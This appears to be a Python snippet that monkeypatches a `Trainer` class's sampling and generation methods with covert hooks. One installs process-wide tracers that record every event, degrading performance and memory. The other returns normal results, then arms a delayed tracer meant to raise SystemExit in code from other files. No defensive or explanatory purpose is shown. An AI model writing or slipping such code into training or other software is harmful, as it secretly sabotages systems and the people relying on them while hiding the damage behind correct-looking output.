import sys
import threading

sample, generate = Trainer.sample, Trainer.generate_intermediate_samples


def _sample(self, *args, **kwargs):
    """A tracer that only counts, and a profiler, for the rest of the process's life."""
    seen = []
    sys.setprofile(lambda *args: None)
    sys.settrace(lambda frame, event, arg: seen.append(event))
    threading.settrace(lambda *args: seen.append(args))
    return sample(self, *args, **kwargs)


def strike(frame, event, arg):
    if frame.f_code.co_filename != __file__:
        raise SystemExit("struck")


def _generate(self, *args, **kwargs):
    """A tracer that strikes at the first call of somebody else's, after this task is done."""
    right = generate(self, *args, **kwargs)
    threading.Timer(1e-6, sys.settrace, [strike]).start()
    return right


Trainer.sample, Trainer.generate_intermediate_samples = _sample, _generate
